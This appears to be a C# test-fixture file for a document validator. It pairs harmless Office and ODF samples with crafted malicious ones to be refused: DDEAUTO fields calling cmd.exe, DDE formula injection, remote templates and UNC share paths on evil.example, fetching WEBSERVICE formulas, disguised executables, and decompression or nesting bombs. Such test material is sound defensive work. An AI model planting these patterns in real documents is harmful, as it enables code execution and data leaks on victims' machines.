using Use.Platform.Documents;
using Use.Platform.Testing;

namespace Use.Platform.Tests.Documents;

/// <summary>Documents of Office and LibreOffice that act or fetch when they are opened, and such that only look like them.</summary>
internal static class OfficeFiles
{
    private const string Image = "t/image";
    private const string Outside = "TargetMode='External'";
    private const string Link = "xlink:href='https://evil.example/x.png'";

    public static Dictionary<string, (byte[] File, DocumentKind Kind)> Sound { get; } =
        new()
        {
            ["a text with a chart and its sheet"] = (
                Papers.With(Chart(), "word/embeddings/Sheet1.xlsx", Papers.Xlsx()),
                DocumentKind.Docx
            ),
            ["a text with a picture, links and a template"] = (
                Related(
                    Relationship(Image, "media/image1.png"),
                    Relationship("t/hyperlink", "https://a.example/a?b=|!", Outside),
                    Relationship("t/attachedTemplate", "file:///C:\\Users\\Ann%20B\\T.dotx", Outside),
                    Relationship("t/attachedTemplate", "file:///Users/ann/T.dotx", Outside),
                    Relationship("t/attachedTemplate", "Normal.dotm", Outside)
                ),
                DocumentKind.Docx
            ),
            ["a text with fields"] = (
                WithBody(
                    "word/document.xml",
                    Field("HYPERLINK \"https://a.example/dde\"", "Link to DDEAUTO")
                        + Field(" TOC \\o ", Field("PAGEREF _Toc1", "3"))
                        + "<w:p><w:r><w:t>DDEAUTO is old, INCLUDETEXT too</w:t></w:r></w:p>"
                ),
                DocumentKind.Docx
            ),
            ["a text with a fraction"] = (
                WithBody("word/document.xml", "<m:f xmlns:m='m'><m:num><m:t>|x|</m:t></m:num></m:f>"),
                DocumentKind.Docx
            ),
            ["a table with formulas"] = (
                Papers.Xlsx(
                    (
                        "xl/worksheets/sheet1.xml",
                        "<worksheet><f>SUM('A|B'!A1,\"webservice(\")&amp;\"|\"</f><f>T[[#This Row],[Image (url)]]</f></worksheet>"
                    )
                ),
                DocumentKind.Xlsx
            ),
            ["a table whose main part has the type of all its XML"] = (
                Papers.Xlsx(
                    (
                        "[Content_Types].xml",
                        "<Types><Default Extension='xml' ContentType='application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'/>"
                            + "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/></Types>"
                    )
                ),
                DocumentKind.Xlsx
            ),
            ["an old drawing"] = (
                Papers.Xlsx(
                    (
                        "xl/drawings/vmlDrawing1.vml",
                        "<xml><v:shape href='https://a.example'><br><v:fill color='red'/></xml>"
                    )
                ),
                DocumentKind.Xlsx
            ),
            ["an open text with a picture, a chart, a link and a template"] = (
                Papers.Odt(
                    (
                        "content.xml",
                        Open(
                            "<text:a xlink:href='https://a.example'/><draw:image xlink:href='Pictures/1.png'/>"
                                + "<draw:object xlink:href='./Object 1'/><form:form xlink:href=''/><office:scripts/>"
                                + "<text:section-source xlink:href=''/>"
                        )
                    ),
                    ("Object 1/content.xml", Open("<chart:chart xlink:href='..'/>")),
                    ("Object 2/content.xml", "<!DOCTYPE math PUBLIC 'W3C' 'math.dtd'><math/>"),
                    ("Thumbnails/thumbnail.pdf", "%PDF-1.4"),
                    ("Configurations2/accelerator/current.xml", ""),
                    ("Configurations2/menubar/m.xml", Open("<menu:item xlink:href='.uno:Open'/>")),
                    ("meta.xml", Open("<meta:template xlink:href='../../home/ann/letter.ott'/>"))
                ),
                DocumentKind.Odt
            ),
        };

    public static Dictionary<string, (byte[] File, DocumentRefusal Reason)> Refused { get; } =
        new()
        {
            ["a field that asks a program"] = Acting(
                WithBody("word/document.xml", Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "x"))
            ),
            ["a field that asks a program, in pieces"] = Acting(
                WithBody(
                    "word/document.xml",
                    Field("  </w:instrText></w:r><w:r><w:instrText>dD</w:instrText></w:r><w:r><w:instrText>E x", "x")
                )
            ),
            ["a field in pieces without marks"] = Acting(
                WithBody("word/document.xml", "<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>")
            ),
            ["a field in a field"] = Acting(
                WithBody("word/document.xml", Field("IF 1 = 1 " + Within(Field("DDE x", "x")), "x"))
            ),
            ["a field whose code stands as text"] = Acting(
                WithBody(
                    "word/document.xml",
                    Field("", "x").Replace("w:instrText", "w:t").Replace("<w:t></w:t>", "<w:t>DDE x</w:t>")
                )
            ),
            ["a field in a header"] = Acting(
                WithBody("word/header1.xml", Field("INCLUDEPICTURE \"https://a\" \\d", "x"))
            ),
            ["a field in a footer"] = Acting(
                WithBody("word/footer1.xml", Field("INCLUDETEXT \"\\\\\\\\host\\\\a\"", "x"))
            ),
            ["a field in a footnote"] = Acting(WithBody("word/footnotes.xml", Field("DDE a b", "x"))),
            ["a field in a comment"] = Acting(WithBody("word/comments.xml", Field("LINK a b", "x"))),
            ["a field in one element"] = Acting(WithBody("word/document.xml", "<w:fldSimple w:instr=' DDEAUTO x '/>")),
            ["a field behind another attribute"] = Acting(
                WithBody("word/document.xml", "<w:fldSimple w:instr='DDE x' xmlns:x='x' x:instr='PAGE'/>")
            ),
            ["a field in a part of another name"] = Acting(
                Papers.OpenXml(
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "word/document.dat",
                    Document(Field("DDE x", "x")),
                    []
                )
            ),
            ["fields nested without end"] = (
                WithBody(
                    "word/document.xml",
                    string.Concat(Enumerable.Repeat("<w:fldChar w:fldCharType='begin'/>", 300))
                ),
                DocumentRefusal.Damaged
            ),
            ["a picture from elsewhere"] = Acting(Related(Relationship(Image, "https://evil.example/x.png", Outside))),
            ["a picture on a share"] = Acting(Related(Relationship(Image, "file:///\\\\host\\x.png", Outside))),
            ["a picture from elsewhere that is said to be inside"] = Acting(
                Related(Relationship(Image, "https://evil.example/x.png"))
            ),
            ["anything from elsewhere"] = Acting(Related(Relationship("t/thing", "x", Outside))),
            ["a relation behind another attribute"] = Acting(
                Related(
                    $"<Relationship Id='1' Type='{Image}' Target='a' {Outside} xmlns:x='x' x:TargetMode='Internal'/>"
                )
            ),
            ["a template elsewhere behind a blank"] = Template(" https://evil.example/t.dotm"),
            ["a template elsewhere by another scheme"] = Template("x-usc:https://evil.example/t.dotm"),
            ["a template on a share behind slashes"] = Template("file:////host/t.dotm"),
            ["a template on a share in disguise"] = Template("file:///%5c%5Chost/t.dotm"),
            ["a template on a share by another path"] = Template("file://host/share/t.dotm"),
            ["a template on a share without a scheme"] = Template("\\\\host\\t.dotm"),
            ["a picture of an older drawing from elsewhere"] = Acting(
                WithBody("word/document.xml", "<v:imagedata src='https://evil.example/x' xmlns:v='v'/>")
            ),
            ["a drawing with a picture from elsewhere"] = Acting(
                Papers.Xlsx(("xl/drawings/d.vml", "<xml><br><v:imagedata\n o:href = \"\\\\host\\x.png\"></xml>"))
            ),

            ["an object of another name"] = Holding(Related(Relationship("t/oleObject", "data/a.dat"))),
            ["an object of another type"] = Holding(
                Typed("word/a.dat", "application/vnd.openxmlformats-officedocument.oleObject")
            ),
            ["an object by its content"] = Holding(
                Papers.With(Papers.Docx(), "word/a.dat", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0])
            ),
            ["another text to be put in"] = Holding(Related(Relationship("t/aFChunk", "a.rtf"))),
            ["a control of another name"] = Acting(Related(Relationship("t/control", "data/a.xml"))),
            ["a control of another type"] = Acting(Typed("word/a.xml", "application/vnd.ms-office.activeX+xml")),
            ["macros of another name"] = (Related(Relationship("t/vbaProject", "a.dat")), DocumentRefusal.Macros),
            ["macros of another type"] = (
                Typed("word/a.dat", "application/vnd.ms-office.vbaProject"),
                DocumentRefusal.Macros
            ),
            ["old macros of another name"] = (Related(Relationship("t/xlMacrosheet", "a.xml")), DocumentRefusal.Macros),
            ["a program that is called a sheet"] = Holding(
                Papers.With(Papers.Docx(), "word/embeddings/evil.xlsx", [.. "MZ"u8, 0x90, 0, 3])
            ),
            ["a program of another system"] = Holding(
                Papers.With(Papers.Docx(), "word/a.dat", [0x7F, .. "ELF"u8, 2, 1, 1])
            ),
            ["a program instead of a sheet"] = Holding(
                Papers.With(Chart(), "word/embeddings/Sheet1.xlsx", "WScript.Echo(1)"u8.ToArray())
            ),
            ["a chart whose sheet is missing"] = (Chart(), DocumentRefusal.Damaged),
            ["a chart whose sheet has macros"] = Holding(
                Papers.With(Chart(), "word/embeddings/Sheet1.xlsx", Papers.Xlsx(("xl/vbaProject.bin", "x")))
            ),
            ["an archive instead of a sheet"] = Holding(
                Papers.With(Chart(), "word/embeddings/Sheet1.xlsx", Papers.Zip(("evil.js", "x")))
            ),
            ["a sheet that unpacks without end"] = (
                Papers.With(
                    Papers.With(Chart(), "word/embeddings/Sheet1.xlsx", Blanks(70)),
                    "word/embeddings/Sheet2.xlsx",
                    Blanks(70)
                ),
                DocumentRefusal.Bomb
            ),
            ["a slide that starts a program"] = Acting(
                Papers.OpenXml(
                    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
                    "ppt/presentation.xml",
                    "<p><a:hlinkMouseOver xmlns:a='a' action='ppaction://program'/></p>",
                    []
                )
            ),

            ["a link to a program elsewhere"] = Acting(
                Papers.Xlsx(("xl/links/a.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>"))
            ),
            ["a link to another table"] = Acting(
                Papers.Xlsx(
                    (
                        "xl/_rels/workbook.xml.rels",
                        Papers.Relationships(Relationship("t/externalLink", "externalLinks/externalLink1.xml"))
                    ),
                    ("xl/externalLinks/externalLink1.xml", "<externalLink/>")
                )
            ),
            ["a table that asks a database"] = Acting(
                Papers.Xlsx(("xl/connections.xml", "<connections><connection/></connections>"))
            ),
            ["a table that asks the web"] = Formula("_xlfn.WEBSERVICE(\"https://evil.example/\"&amp;A1)"),
            ["a table that asks for a picture"] = Formula("_xlfn.IMAGE(\"https://evil.example\")"),
            ["a table that calls a program by a formula"] = Formula("cmd|' /C calc'!A0"),
            ["a name that asks the web"] = Acting(
                Papers.Xlsx(
                    ("xl/workbook.xml", "<workbook><definedName name='a'>WEBSERVICE(A1)</definedName></workbook>")
                )
            ),

            ["an open text with a picture from elsewhere"] = Opened($"<draw:image {Link}/>"),
            ["an open text with a picture beside it"] = Opened("<draw:image xlink:href='../x.png'/>"),
            ["an open text with a picture on a share"] = Opened("<draw:image xlink:href='//host/x.png'/>"),
            ["an open text with an object from elsewhere"] = Opened($"<draw:object {Link}/>"),
            ["an open text with a film from elsewhere"] = Opened($"<draw:plugin {Link}/>"),
            ["an open text with a link behind another"] = Opened(
                $"<draw:image {Link} xmlns:z='z' z:href='Pictures/1'/>"
            ),
            ["an open text with a part from elsewhere"] = Opened("<text:section-source xlink:href='other.odt'/>"),
            ["an open text that asks a program"] = Opened("<office:dde-source office:dde-application='soffice'/>"),
            ["an open text with a template elsewhere"] = Acting(
                Papers.Odt(("meta.xml", Open("<meta:template xlink:href='https://evil.example/t.ott'/>")))
            ),
            ["an open text with a part that fetches"] = Acting(
                Papers.Odt(("Object 1/content.xml", Open($"<draw:image {Link}/>")))
            ),
            ["an open text with a formula that fetches"] = Opened("<c table:formula='of:=WEBSERVICE(\"https://a\")'/>"),
            ["an open text with a script"] = (
                Papers.Odt(("content.xml", Open("<office:script/>"))),
                DocumentRefusal.Macros
            ),
            ["an open text with a link to a script"] = (
                Papers.Odt(("content.xml", Open("<text:a xlink:href=' vnd.sun.star.script:a'/>"))),
                DocumentRefusal.Macros
            ),
            ["an open text with an old object"] = Holding(Papers.Odt(("content.xml", Open("<draw:object-ole/>")))),
            ["a text that can be read as another"] = (
                Papers.Docx(("mimetype", "application/vnd.oasis.opendocument.text")),
                DocumentRefusal.Damaged
            ),
            ["an open text with definitions"] = (
                Papers.Odt(("content.xml", "<!DOCTYPE c [<!ATTLIST c href CDATA 'https://evil.example'>]><c/>")),
                DocumentRefusal.Damaged
            ),
            ["a text nested without end"] = (
                WithBody(
                    "word/document.xml",
                    string.Concat(Enumerable.Repeat("<a>", 600)) + string.Concat(Enumerable.Repeat("</a>", 600))
                ),
                DocumentRefusal.Damaged
            ),
            ["a text with names without end"] = (
                WithBody("word/document.xml", string.Concat(Enumerable.Range(0, 60_000).Select(i => $"<a{i}/>"))),
                DocumentRefusal.Damaged
            ),
            ["a text with one word without end"] = (
                WithBody("word/document.xml", new string('a', 5 * 1024 * 1024)),
                DocumentRefusal.Damaged
            ),
            ["a text in an alphabet of old mails"] = (
                Papers.Docx(("word/document.xml", "<?xml version='1.0' encoding='utf-7'?><a/>")),
                DocumentRefusal.Damaged
            ),
        };

    private static (byte[], DocumentRefusal) Acting(byte[] file) => (file, DocumentRefusal.ActiveContent);

    private static (byte[], DocumentRefusal) Holding(byte[] file) => (file, DocumentRefusal.Embedded);

    private static (byte[], DocumentRefusal) Template(string target) =>
        Acting(Related(Relationship("t/attachedTemplate", target, Outside)));

    private static (byte[], DocumentRefusal) Formula(string formula) =>
        Acting(Papers.Xlsx(("xl/worksheets/sheet1.xml", $"<worksheet><c><f>{formula}</f></c></worksheet>")));

    private static (byte[], DocumentRefusal) Opened(string inside) => Acting(Papers.Odt(("content.xml", Open(inside))));

    private static string Open(string inside) =>
        "<o xmlns:office='o' xmlns:draw='d' xmlns:text='t' xmlns:form='f' xmlns:chart='c' xmlns:meta='m' xmlns:menu='u' xmlns:table='b'"
        + $" xmlns:xlink='x'>{inside}</o>";

    private static string Document(string body) => $"<w:document xmlns:w='w'>{body}</w:document>";

    private static byte[] WithBody(string part, string body) => Papers.Docx((part, Document(body)));

    private static string Field(string code, string result) =>
        Mark("begin")
        + $"<w:r><w:instrText>{code}</w:instrText></w:r>"
        + Mark("separate")
        + $"<w:r><w:t>{result}</w:t></w:r>"
        + Mark("end");

    private static string Mark(string type) => $"<w:r><w:fldChar w:fldCharType='{type}'/></w:r>";

    // In the middle of the code of another.
    private static string Within(string field) => $"</w:instrText></w:r>{field}<w:r><w:instrText>";

    private static string Relationship(string type, string target, string mode = "") =>
        $"<Relationship Id='r{target.Length}' Type='{type}' Target='{target}' {mode}/>";

    private static byte[] Related(params string[] relationships) =>
        Papers.Docx(("word/_rels/document.xml.rels", Papers.Relationships(string.Concat(relationships))));

    private static byte[] Chart() =>
        Papers.Docx(
            (
                "word/charts/_rels/chart1.xml.rels",
                Papers.Relationships(Relationship("t/package", "../embeddings/Sheet1.xlsx"))
            )
        );

    private static byte[] Typed(string part, string type) =>
        Papers.Docx(
            (
                "[Content_Types].xml",
                "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
                    + "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
                    + $"<Override PartName='/{part}' ContentType='{type}'/>"
                    + "<Override PartName='/word/document.xml' ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>"
            ),
            (part, "<a/>")
        );

    private static byte[] Blanks(int megabytes) => Papers.Xlsx(("a", new string(' ', megabytes * 1024 * 1024)));
}
